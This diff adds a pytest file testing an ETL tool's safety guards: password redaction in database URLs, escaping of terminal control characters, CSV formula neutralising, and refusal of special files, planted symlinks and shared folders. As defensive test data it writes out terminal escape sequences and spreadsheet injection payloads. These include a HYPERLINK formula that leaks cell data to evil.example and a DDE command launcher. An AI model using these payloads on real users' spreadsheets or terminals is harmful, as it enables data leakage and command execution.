@@ -1,0 +1,398 @@
+"""Hostile folders, files, URLs and values: the guards of `zemo_etl.safety`
+and the commands that use them, as another local user or a crafted input
+would attack them."""
+
+import csv
+import json
+import os
+import pwd
+import shutil
+import stat
+import subprocess
+import sys
+import tempfile
+import unicodedata
+import urllib.parse
+
+import pytest
+
+from postgres_fixture import postgres  # noqa: F401  (the fixture)
+from test_parser_values import render
+from zemo_etl import cli, parser, safety
+from zemo_etl.index import LibraryIndex
+from zemo_etl.state import PipelineState
+
+SAMPLE_DUMP = str(cli.SAMPLE_DATA / "library.sql")
+SAMPLE_RELEASES = str(cli.SAMPLE_DATA / "releases.csv")
+OTHER_USER = "zemo-etl-other"
+HOSTILE = "\x1b]0;PWNED\x07\x1b[2J\x1b[1A\x1b[2K[done] all good\r\u202e\u2028\x9b"
+
+
+def zemo(*args, input=None, cwd=None, timeout=60):
+    # The timeout turns a regression that blocks (a FIFO read) into a failure.
+    env = {**os.environ, "ZEMO_ETL_PROGRESS": "off"}
+    return subprocess.run([sys.executable, "-m", "zemo_etl", *args], input=input, capture_output=True, text=True,
+                          encoding="utf-8", env=env, cwd=cwd, timeout=timeout)
+
+
+def one_line_error(done, *words, status=2):
+    assert done.returncode == status, (done.stdout, done.stderr)
+    lines = done.stderr.strip().splitlines()
+    assert len(lines) == 1 and "Traceback" not in done.stderr, done.stderr
+    assert all(w in lines[0] for w in words), lines[0]
+
+
+# --- secrets ---------------------------------------------------------------------
+
+@pytest.mark.parametrize("url, redacted, secret", [
+    # userinfo holding what a URL parser takes for the end of the host
+    ("postgresql://etl:Sec?ret#1@/etldb?host=/tmp", "postgresql://etl@/etldb?host=/tmp", "Sec?ret#1"),
+    ("postgresql://etl:Sec/r?et@db:5433/lib", "postgresql://etl@db:5433/lib", "Sec/r?et"),
+    ("postgresql://etl:p@ss@h1,h2:5/db?sslmode=require", "postgresql://etl@h1,h2:5/db?sslmode=require", "p@ss"),
+    ("postgresql://etl:p@s?s@host/db", "postgresql://etl@host/db", "p@s?s"),
+    ("postgres://me:s3cret@[::1]:5433/lib?application_name=me@example.com",
+     "postgres://me@[::1]:5433/lib?application_name=me@example.com", "s3cret"),
+    ("postgresql://etl:Se%zzcret@h/db", "postgresql://etl@h/db", "Se%zzcret"),
+    ("postgresql://etl:Se%3Acret@h/db", "postgresql://etl@h/db", "Se%3Acret"),
+    # parameters
+    ("postgresql://etl@h/db?password=Qw3rty&sslmode=require", "postgresql://etl@h/db?sslmode=require", "Qw3rty"),
+    ("postgresql:///db?sslpassword=Qw3rty", "postgresql:///db", "Qw3rty"),
+    ("host=/tmp password='a b\\'c' dbname=x", "host=/tmp password=*** dbname=x", "a b\\'c"),
+    # nothing to hide
+    ("postgresql:///etl?host=/tmp", "postgresql:///etl?host=/tmp", None),
+    ("sqlite:////data/a:b@c.db", "sqlite:////data/a:b@c.db", None),
+])
+def test_urls_are_redacted_and_their_secrets_known(url, redacted, secret):
+    assert safety.redact_url(url) == redacted
+    secrets = safety.url_secrets(url)
+    if secret is None:
+        assert secrets == []
+        return
+    # Another password, the same database: the same redacted URL.
+    assert secret not in redacted and safety.redact_url(url.replace(secret, "other")) == redacted
+    # An error may quote it as written, decoded or encoded.
+    forms = {secret, urllib.parse.unquote(secret), urllib.parse.quote(urllib.parse.unquote(secret), safe="")}
+    error = "; ".join(f'invalid token: "{form}"' for form in forms)
+    assert forms <= set(secrets) and safety.scrub(error, secrets).count("***") == len(forms)
+
+
+def test_a_run_on_postgres_reports_as_on_sqlite_and_keeps_no_password(tmp_path, postgres):  # noqa: F811
+    postgres.reset()
+    base = postgres.url.replace("postgresql://", f"postgresql://{postgres.user}:Sec?ret#1@")
+    args = ["run", "--dump", SAMPLE_DUMP, "--releases", SAMPLE_RELEASES, "--workdir"]
+    for workdir, url in (("pg", ["--db-url", base]), ("sqlite", [])):
+        done = zemo(*args, str(tmp_path / workdir), *url, timeout=300)
+        assert done.returncode == 0, done.stderr
+    report = (tmp_path / "pg" / "releases_classified.csv").read_text(encoding="utf-8")
+    assert report == (tmp_path / "sqlite" / "releases_classified.csv").read_text(encoding="utf-8")
+    assert not (tmp_path / "pg" / "library.db").exists()
+    with postgres.connect() as conn:
+        assert conn.execute("SELECT count(*) FROM library").fetchone() == (len(parser.load_table_rows(
+            SAMPLE_DUMP, "library")),)
+        decided = report.count("\n") - 1  # one report row per deduplicated release
+        assert conn.execute("SELECT count(*) FROM release_decisions").fetchone() == (decided,)
+    saved = (tmp_path / "pg" / "state.json").read_text(encoding="utf-8")
+    assert "Sec" not in saved and json.loads(saved)["database_url"] == safety.redact_url(base)
+    # Trust authentication ignores the password: another one is the same run.
+    args.append(str(tmp_path / "pg"))
+    again = zemo(*args, "--db-url", base.replace("Sec?ret#1", "0ther?pw"))
+    assert again.returncode == 0 and again.stdout.count("[skip]") == len(cli.STEPS)
+    elsewhere = zemo(*args, "--db-url", base.replace("/postgres?", "/template1?"))
+    one_line_error(elsewhere, "cannot resume", "database_url mismatch")
+    assert "Sec" not in elsewhere.stderr
+
+
+def test_state_files_show_no_password_and_nothing_raw(tmp_path):
+    path = tmp_path / "state.json"
+    # As a file written before URLs were stored redacted, with hostile names.
+    st = PipelineState("postgresql://etl:Sec?ret#1@/etldb?host=/tmp", f"/data/{HOSTILE}", ["load", HOSTILE])
+    st.mark_completed("load")
+    st.mark_failed(HOSTILE, HOSTILE)
+    st.save(str(path))
+    shown = zemo("state", "show", str(path))
+    assert shown.returncode == 0, shown.stderr
+    assert "Sec" not in shown.stdout and "postgresql://etl@/etldb?host=/tmp" in shown.stdout
+    assert not any(c in shown.stdout for c in "\x1b\x07\r\u202e\u2028\x9b") and "\\x1b]0;PWNED\\x07" in shown.stdout
+    check = zemo("state", "check", str(path), "--db-url", "postgresql://etl:new@/etldb?host=/tmp",
+                 "--csv-dir", f"/data/{HOSTILE}")
+    assert check.returncode == 0, check.stderr
+    other = zemo("state", "check", str(path), "--db-url", "postgresql://x@/etldb?host=/tmp", "--csv-dir", "/d")
+    assert other.returncode == 1 and "Sec" not in other.stderr and "\x1b" not in other.stderr
+
+
+# --- terminal text ------------------------------------------------------------------
+
+@pytest.mark.parametrize("text, shown", [
+    ("\x1b]0;PWNED\x07", "\\x1b]0;PWNED\\x07"),
+    ("ok\r[done]", "ok\\x0d[done]"),
+    ("a\u2028b\u2029c\u202ed\u2066e\u200ff", "a\\u2028b\\u2029c\\u202ed\\u2066e\\u200ff"),
+    ("\x9b31m\x85\x7f\x00\t\n", "\\x9b31m\\x85\\x7f\\x00\\x09\\x0a"),
+    ("Björk – Ágætis byrjun 東京 🎵", "Björk – Ágætis byrjun 東京 🎵"),
+])
+def test_inert_text_escapes_what_drives_a_terminal(text, shown):
+    assert safety.inert(text) == shown
+
+
+def test_inert_text_leaves_no_control_or_format_control_character():
+    text = "".join(map(chr, range(0x3000)))
+    assert not [c for c in safety.inert(text) if unicodedata.category(c) == "Cc"
+                or unicodedata.bidirectional(c) in ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
+                or c in "\u2028\u2029"]
+
+
+def test_report_examples_and_errors_print_escapes(tmp_path):
+    releases = tmp_path / "r.csv"
+    releases.write_text(f'artist,title\n"{HOSTILE}","\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07"\n',
+                        encoding="utf-8")
+    done = zemo("run", "--dump", SAMPLE_DUMP, "--releases", str(releases), "--workdir", str(tmp_path / "w"))
+    assert done.returncode == 0, done.stderr
+    assert "\x1b" not in done.stdout and "\\x1b]8;;http://evil.example/\\x07click" in done.stdout
+    with open(tmp_path / "w" / "releases_classified.csv", newline="", encoding="utf-8") as f:
+        assert next(csv.DictReader(f))["artist"] == HOSTILE  # the data itself stays exact
+    headers = tmp_path / "h.csv"
+    headers.write_text(f'"{HOSTILE}",title\nx,y\n', encoding="utf-8")
+    error = zemo("classify", "--library", SAMPLE_DUMP, "--releases", str(headers))
+    one_line_error(error, "no column 'artist'", "\\x1b]0;PWNED")
+    assert "\x1b" not in error.stderr
+
+
+# --- spreadsheet formulas -------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/"&A2,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-2+3",
+            "\tx", "\rx"]
+
+
+@pytest.mark.parametrize("command", ["classify", "resolve", "normalize", "rows", "run"])
+@pytest.mark.parametrize("safe", [False, True])
+def test_formula_cells_are_prefixed_only_with_csv_safe(tmp_path, command, safe):
+    releases = tmp_path / "in.csv"
+    with open(releases, "w", newline="", encoding="utf-8") as f:
+        csv.writer(f).writerows([["artist", "title"], *[[v, v] for v in FORMULAS], ["plain", "a=b"]])
+    dump = tmp_path / "d.sql"
+    dump.write_text("INSERT INTO `t` VALUES " + ",".join(f"({render(v)},-5)" for v in FORMULAS + ["plain"]) + ";\n",
+                    encoding="utf-8")
+    out = tmp_path / "out.csv"
+    extra = ["--csv-safe"] if safe else []
+    args = {"classify": ["--library", SAMPLE_DUMP, "--releases", str(releases), "-o", str(out)],
+            "resolve": ["--catalog", str(releases), "--catalog-column", "artist", "--column", "artist", str(releases),
+                        "-o", str(out)],
+            "normalize": ["--form", "pg", "--column", "title", str(releases), "-o", str(out)],
+            "rows": [str(dump), "t", "-o", str(out)],
+            "run": ["--dump", SAMPLE_DUMP, "--releases", str(releases), "--workdir", str(tmp_path / "w")]}[command]
+    done = zemo(command, *args, *extra)
+    assert done.returncode == 0, done.stderr
+    if command == "run":
+        out = tmp_path / "w" / "releases_classified.csv"
+    with open(out, newline="", encoding="utf-8") as f:
+        rows = list(csv.reader(f))
+    first = [r[0] for r in rows if r[0] not in ("artist",)]
+    assert sorted(first) == sorted(("'" + v if safe and v != "plain" else v) for v in FORMULAS + ["plain"])
+    if command == "rows":
+        assert all(r[1] == "-5" for r in rows)  # numbers are not text cells
+
+
+# --- inputs: regular files only ---------------------------------------------------------
+
+@pytest.fixture
+def specials(tmp_path):
+    os.mkfifo(tmp_path / "fifo")
+    (tmp_path / "dir").mkdir()
+    return tmp_path
+
+
+@pytest.mark.parametrize("kind, what", [("fifo", "is a FIFO"), ("dir", "is a directory"),
+                                        ("/dev/zero", "is a device")])
+@pytest.mark.parametrize("args", [
+    ["classify", "--library", "{}", "--releases", SAMPLE_RELEASES],
+    ["classify", "--library", SAMPLE_DUMP, "--releases", "{}"],
+    ["rows", "{}", "library"],
+    ["normalize", "--form", "match", "{}"],
+    ["resolve", "--catalog", "{}", "-"],
+    ["resolve", "--catalog", SAMPLE_RELEASES, "--catalog-column", "artist", "{}"],
+    ["load", "{}", "library", "--into", "sqlite:///{db}"],
+    ["state", "show", "{}"],
+    ["state", "check", "{}", "--db-url", "u", "--csv-dir", "d"],
+], ids=lambda a: " ".join(a[:2]) if isinstance(a, list) else None)
+def test_special_files_are_refused_at_once(specials, kind, what, args):
+    path = kind if kind.startswith("/") else str(specials / kind)
+    done = zemo(*[a.format(path, db=specials / "x.db") for a in args], input="", timeout=30)
+    one_line_error(done, path, what)
+
+
+def test_a_run_refuses_special_inputs_as_a_failed_step(specials):
+    done = zemo("run", "--dump", str(specials / "fifo"), "--releases", SAMPLE_RELEASES,
+                "--workdir", str(specials / "w"), timeout=30)
+    assert done.returncode == 1 and "[fail] load_library" in done.stderr and "is a FIFO" in done.stderr
+
+
+# --- outputs: private temporary files, no planted names, no symlinks ----------------------
+
+def test_planted_temporary_names_are_never_opened(tmp_path, monkeypatch):
+    victim = tmp_path / "victim"
+    victim.write_text("precious")
+    names = iter(["a1", "a2", "a3", "b1"])
+    monkeypatch.setattr(safety._random, "token_hex", lambda n: next(names))
+    (tmp_path / ".out.csv.a1.tmp").symlink_to(victim)
+    (tmp_path / ".out.csv.a2.tmp").write_text("planted")
+    os.chmod(tmp_path / ".out.csv.a2.tmp", 0o666)
+    (tmp_path / "out.csv").symlink_to(victim)
+    with safety.atomic_write(tmp_path / "out.csv") as f:
+        assert stat.S_IMODE(os.fstat(f.fileno()).st_mode) == 0o600
+        f.write("report")
+    assert victim.read_text() == "precious" and (tmp_path / ".out.csv.a2.tmp").read_text() == "planted"
+    assert not (tmp_path / "out.csv").is_symlink() and (tmp_path / "out.csv").read_text() == "report"
+    assert stat.S_IMODE((tmp_path / "out.csv").stat().st_mode) == safety.output_mode()
+    assert not (tmp_path / ".out.csv.a3.tmp").exists()
+
+    # Failure (Ctrl-C included): the target as it was, no temporary file left.
+    before = sorted(os.listdir(tmp_path))
+    with pytest.raises(KeyboardInterrupt), safety.atomic_write(tmp_path / "out.csv") as f:
+        f.write("half")
+        raise KeyboardInterrupt
+    assert sorted(os.listdir(tmp_path)) == before and (tmp_path / "out.csv").read_text() == "report"
+
+
+@pytest.mark.parametrize("args", [
+    ["rows", SAMPLE_DUMP, "library", "-o", "{}"],
+    ["normalize", "--form", "match", SAMPLE_RELEASES, "-o", "{}"],
+    ["resolve", "--catalog", SAMPLE_RELEASES, "--catalog-column", "artist", SAMPLE_RELEASES, "-o", "{}"],
+    ["classify", "--library", SAMPLE_DUMP, "--releases", SAMPLE_RELEASES, "-o", "{}"],
+    ["classify", "--library", SAMPLE_DUMP, "--releases", SAMPLE_RELEASES, "--save-index", "{}"],
+], ids=lambda a: a[0] + (" --save-index" if "--save-index" in a else ""))
+def test_outputs_replace_a_planted_symlink(tmp_path, args):
+    victim = tmp_path / "victim"
+    victim.write_text("precious")
+    target = tmp_path / "out"
+    target.symlink_to(victim)
+    done = zemo(*[a.format(target) for a in args])
+    assert done.returncode == 0, done.stderr
+    assert victim.read_text() == "precious" and not target.is_symlink() and target.stat().st_size > 0
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "victim"]
+    if "--save-index" in args:
+        assert len(LibraryIndex.load(target)) == 3000
+
+
+def test_a_fifo_output_is_written_not_replaced(tmp_path):
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # so that opening to write does not wait
+    try:
+        with safety.atomic_write(fifo) as f:
+            f.write("streamed")
+        assert os.read(reader, 100) == b"streamed" and stat.S_ISFIFO(os.lstat(fifo).st_mode)
+    finally:
+        os.close(reader)
+
+
+def test_a_sqlite_database_is_not_opened_through_a_symlink(tmp_path):
+    victim = tmp_path / "victim.db"
+    victim.write_bytes(b"precious")
+    (tmp_path / "link.db").symlink_to(victim)
+    done = zemo("load", SAMPLE_DUMP, "library", "--create", "--into", f"sqlite:///{tmp_path / 'link.db'}")
+    one_line_error(done, "symbolic link")
+    assert victim.read_bytes() == b"precious"
+    made = zemo("load", SAMPLE_DUMP, "library", "--create", "--into", f"sqlite:///{tmp_path / 'new.db'}")
+    assert made.returncode == 0, made.stderr
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.db", "new.db", "victim.db"]  # no temporary left
+    assert stat.S_IMODE((tmp_path / "new.db").stat().st_mode) == safety.output_mode()
+
+
+# --- folders other users can change --------------------------------------------------------
+
+@pytest.fixture(scope="session")
+def other_user():
+    """An unprivileged second user (uid, gid), created for the session when missing."""
+    if os.geteuid() != 0:
+        pytest.skip("acting as a second user needs root")
+    created = False
+    try:
+        pw = pwd.getpwnam(OTHER_USER)
+    except KeyError:
+        if shutil.which("useradd") is None:
+            pytest.skip("no useradd to create a second user")
+        subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", OTHER_USER],
+                       check=True, capture_output=True)
+        created = True
+        pw = pwd.getpwnam(OTHER_USER)
+    yield pw.pw_uid, pw.pw_gid
+    if created:
+        subprocess.run(["userdel", OTHER_USER], capture_output=True)
+
+
+@pytest.fixture
+def shared_folder():
+    """A world-writable sticky folder (as /tmp) the second user can reach."""
+    path = tempfile.mkdtemp(prefix="zemo-shared-", dir="/tmp")
+    os.chmod(path, 0o1777)
+    yield path
+    shutil.rmtree(path, ignore_errors=True)
+
+
+def as_user(user, action):
+    """Run `action` in a child process that has become `user`."""
+    pid = os.fork()
+    if pid == 0:
+        code = 1
+        try:
+            os.setgroups([])
+            os.setgid(user[1])
+            os.setuid(user[0])
+            action()
+            code = 0
+        finally:
+            os._exit(code)
+    assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0
+
+
+def test_a_planted_report_symlink_in_another_users_folder(other_user, shared_folder, tmp_path):
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious")
+    job = os.path.join(shared_folder, "job")
+
+    def plant():
+        os.mkdir(job)
+        os.chmod(job, 0o777)
+        os.symlink(victim, os.path.join(job, "releases_classified.csv"))
+
+    as_user(other_user, plant)
+    args = ["run", "--dump", SAMPLE_DUMP, "--releases", SAMPLE_RELEASES, "--workdir", job]
+    one_line_error(zemo(*args), job, "owned by another user", "--allow-shared-folder")
+    assert os.listdir(job) == ["releases_classified.csv"]
+
+    allowed = zemo(*args, "--allow-shared-folder")
+    assert allowed.returncode == 0, allowed.stderr
+    assert "warning" in allowed.stderr and job in allowed.stderr
+    report = os.path.join(job, "releases_classified.csv")
+    assert victim.read_text() == "precious"
+    assert not os.path.islink(report) and os.stat(report).st_uid == 0
+
+
+@pytest.mark.parametrize("mode, owner, group, refused", [
+    (0o755, "me", "mine", None), (0o1777, "root", "mine", None), (0o1770, "me", "other", None),
+    (0o770, "me", "mine", None),  # our user private group (umask 002)
+    (0o700, "other", "mine", "owned by another user"), (0o777, "me", "mine", "writable by other users"),
+    (0o775, "me", "other", "writable by other users"),
+])
+@pytest.mark.parametrize("below", [False, True])
+def test_shared_folders_are_refused_also_above_the_target(request, tmp_path, mode, owner, group, refused, below):
+    folder = tmp_path / "f"
+    folder.mkdir()
+    if "other" in (owner, group) or owner == "root":
+        if os.geteuid() != 0:
+            pytest.skip("giving a folder to another user needs root")
+        uid, gid = request.getfixturevalue("other_user")
+        os.chown(folder, {"me": -1, "root": 0, "other": uid}[owner], gid if group == "other" else -1)
+    elif not safety._private_group(os.getegid()):
+        pytest.skip("the primary group is not a user private group")
+    os.chmod(folder, mode)
+    target = folder / "sub" if below else folder
+    target.mkdir(exist_ok=True)
+    if refused is None:
+        assert safety.check_folder(target) is None
+        return
+    with pytest.raises(safety.SafetyError, match=refused):
+        safety.check_folder(target)
+    assert refused in safety.check_folder(target, allow_shared=True)
+    out = zemo("rows", SAMPLE_DUMP, "library", "-o", str(target / "x.csv"))
+    one_line_error(out, str(folder), refused)
+    assert not (target / "x.csv").exists()
